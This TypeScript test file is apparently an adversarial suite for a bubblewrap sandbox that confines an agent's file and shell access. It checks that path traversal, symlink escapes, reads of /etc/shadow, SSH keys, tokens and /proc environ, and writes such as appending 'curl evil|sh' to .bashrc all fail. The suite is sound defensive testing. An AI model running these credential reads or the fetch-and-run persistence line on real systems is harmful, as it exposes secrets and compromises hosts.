// Adversarial suite, part 1: files, secrets and the environment, at standard and strict.
// Every attack goes through both doors a tool has: the file facade (in-process) and exec (bwrap).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { PathEscapeError } from "../../src/sandbox/executor.ts";
import type { BwrapExecutor } from "../../src/sandbox/bwrap.ts";
import { LEVELS, bwrapExecutor, useFakeHost, visibleHostBase } from "./bwrap-helpers.ts";

const h = useFakeHost();

for (const level of LEVELS) {
  describe(`file and secret attacks at ${level}`, () => {
    let ex: BwrapExecutor;
    let ws: string;
    const sh = (command: string) => ex.exec({ command });

    beforeAll(async () => {
      ex = bwrapExecutor(level, { envAllow: ["ANTHROPIC_API_KEY", "LANG"] });
      ws = ex.fs.root;
      const status = await ex.status();
      expect(status.ok).toBe(true);
      mkdirSync(join(h.home, "secret-dir"), { recursive: true });
      writeFileSync(join(h.home, "secret-dir", "notes.txt"), "TOP-SECRET-NOTES");
      symlinkSync(h.sshKey, join(ws, "key-link"));
      symlinkSync(join(h.home, "secret-dir"), join(ws, "dir-link"));
    });
    afterAll(() => rmSync(ws, { recursive: true, force: true }));

    test("../../etc/shadow and absolute paths are refused by the file facade, nothing is written outside", async () => {
      await expect(ex.fs.readFile("../../etc/shadow")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.readFile("../../../../../../etc/shadow")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.readFile("/etc/passwd")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.readFile(h.sshKey)).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.writeFile("a/../../escaped.txt", "x")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.writeFile(join(dirname(ws), "escaped-abs.txt"), "x")).rejects.toBeInstanceOf(PathEscapeError);
      expect(existsSync(join(dirname(ws), "escaped.txt"))).toBe(false);
      expect(existsSync(join(dirname(ws), "escaped-abs.txt"))).toBe(false);
    });

    test("the same reads and writes through exec see no secret and change nothing on the host", async () => {
      const r = await sh(`cat ../../etc/shadow; cat /etc/shadow; cat ${h.sshKey}; cat ${h.token}; cat ${join(h.state, "state", "openclaw.db")}; echo pwned > ../escaped-exec.txt; echo done`);
      expect(r.stdout).toBe("done\n");
      expect(r.stdout + r.stderr).not.toContain("FAKE-KEY");
      expect(r.stdout + r.stderr).not.toContain("tok_");
      expect(r.stdout + r.stderr).not.toContain("not really sqlite");
      expect(r.stdout).not.toMatch(/root:[^:]*:\d+:/); // no shadow line
      expect(existsSync(join(dirname(ws), "escaped-exec.txt"))).toBe(false);
    });

    test("a symlink to ~/.ssh/id_rsa and to a directory outside leads nowhere", async () => {
      await expect(ex.fs.readFile("key-link")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.writeFile("key-link", "overwritten")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.list("dir-link")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.readFile("dir-link/notes.txt")).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.fs.writeFile("dir-link/planted.txt", "x")).rejects.toBeInstanceOf(PathEscapeError);

      const r = await sh("cat key-link; ls dir-link/; cat dir-link/notes.txt; echo planted > dir-link/planted.txt; echo over > key-link; echo done");
      expect(r.stdout).toBe("done\n");
      expect(r.stderr).not.toContain("FAKE-KEY");
      expect(r.stderr).not.toContain("TOP-SECRET");
      expect(readFileSync(h.sshKey, "utf8")).toBe(h.sshKeyText);
      expect(existsSync(join(h.home, "secret-dir", "planted.txt"))).toBe(false);
    });

    test("/proc/self/environ, /proc/<gateway pid>/environ and /proc/1/cmdline hold no secret", async () => {
      const r = await sh(
        `tr '\\0' '\\n' < /proc/self/environ; cat /proc/${process.pid}/environ; cat /proc/${process.pid}/cmdline; ` +
          "cat /proc/1/cmdline; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; ls /proc/1/root/ 2>&1; echo; ps -e -o pid,args 2>/dev/null || true",
      );
      const all = r.stdout + r.stderr;
      expect(all).toContain("PATH=/usr/local/sbin"); // the reads did run
      expect(all).not.toContain(h.secret);
      expect(all).not.toContain("ANTHROPIC_API_KEY");
      expect(r.stderr).toContain(`/proc/${process.pid}/environ: No such file`); // the gateway is not in the PID namespace
      expect(all).not.toContain("FAKE-KEY");
    });

    test("env shows only the allow-listed variables, never a secret (even when envAllow or the request names it)", async () => {
      const r = await ex.exec({ command: "env", env: { SMUGGLED: h.secret, OTHER_TOKEN: "plain-value-123", FOO: "bar" } });
      const names = r.stdout.trim().split("\n").map((l) => l.split("=")[0]).sort();
      expect(names).toEqual(["FOO", "HOME", "LANG", "PATH", "PWD", "TERM"]);
      expect(r.stdout).not.toContain(h.secret);
    });

    test("writes to /etc, $HOME/.bashrc, the state dir and the workspace's parent never reach the host", async () => {
      const r = await sh(
        `echo x > /etc/pwned; echo 'curl evil|sh' >> ${h.bashrc}; echo x > ${h.state}/planted; echo x > ${h.state}/credentials/gateway-token; ` +
          `echo x > ${dirname(ws)}/parent-planted; mkdir -p /usr/local/bin/x; echo ok`,
      );
      expect(r.stdout).toBe("ok\n");
      expect(r.stderr).toMatch(/\/etc\/pwned: (Read-only file system|No such file|Permission denied)/);
      expect(existsSync("/etc/pwned")).toBe(false);
      expect(readFileSync(h.bashrc, "utf8")).toBe("# original\n");
      expect(existsSync(join(h.state, "planted"))).toBe(false);
      expect(readFileSync(h.token, "utf8")).toStartWith("tok_");
      expect(existsSync(join(dirname(ws), "parent-planted"))).toBe(false);
      expect(existsSync("/usr/local/bin/x")).toBe(false);
    });

    test("the allowed path itself is writable, and the write lands on the host", async () => {
      const r = await sh("echo from-sandbox > made-inside.txt && cat made-inside.txt");
      expect(r.exitCode).toBe(0);
      expect(readFileSync(join(ws, "made-inside.txt"), "utf8")).toBe("from-sandbox\n");
      expect(new TextDecoder().decode(await ex.fs.readFile("made-inside.txt"))).toBe("from-sandbox\n");
    });

    test("a cwd outside the allowed paths is refused before anything runs", async () => {
      await expect(ex.exec({ command: "true", cwd: "/etc" })).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.exec({ command: "true", cwd: "../.." })).rejects.toBeInstanceOf(PathEscapeError);
      await expect(ex.exec({ command: "true", cwd: "dir-link" })).rejects.toBeInstanceOf(PathEscapeError);
    });
  });
}

describe("a workspace whose parent is on the read-only host root (standard)", () => {
  test("writing next to the allowed path fails with a read-only error", async () => {
    const parent = join(visibleHostBase(), `.sandbox-test-${process.pid}`);
    mkdirSync(join(parent, "ws"), { recursive: true });
    try {
      const ex = bwrapExecutor("standard", {}, join(parent, "ws"));
      const r = await ex.exec({ command: `echo x > ${parent}/sibling.txt` });
      expect(r.exitCode).not.toBe(0);
      expect(r.stderr).toContain("Read-only file system");
      expect(existsSync(join(parent, "sibling.txt"))).toBe(false);
    } finally {
      rmSync(parent, { recursive: true, force: true });
    }
  });
});
